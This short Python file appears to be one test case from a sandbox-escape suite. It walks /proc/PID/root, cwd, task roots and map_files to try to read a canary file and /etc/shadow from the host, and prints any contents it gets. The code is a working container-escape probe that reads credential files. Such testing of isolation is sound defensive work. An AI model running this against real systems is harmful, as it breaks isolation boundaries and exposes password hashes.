"""Takes the roads of /proc/PID/root and cwd to the host's files."""

CLASS = 5
KIND = "program"
SEEN = "the canary secret in its output"

import os

for process in os.listdir("/proc"):
    for road in ("root", "cwd", "task/1/root", "map_files"):
        for path in ("@CANARY_FILE@", "/../../../../@CANARY_FILE@", "/etc/shadow"):
            try:
                with open(f"/proc/{process}/{road}/{path}") as file:
                    print("ESCAPED", process, file.read())
            except OSError:
                pass
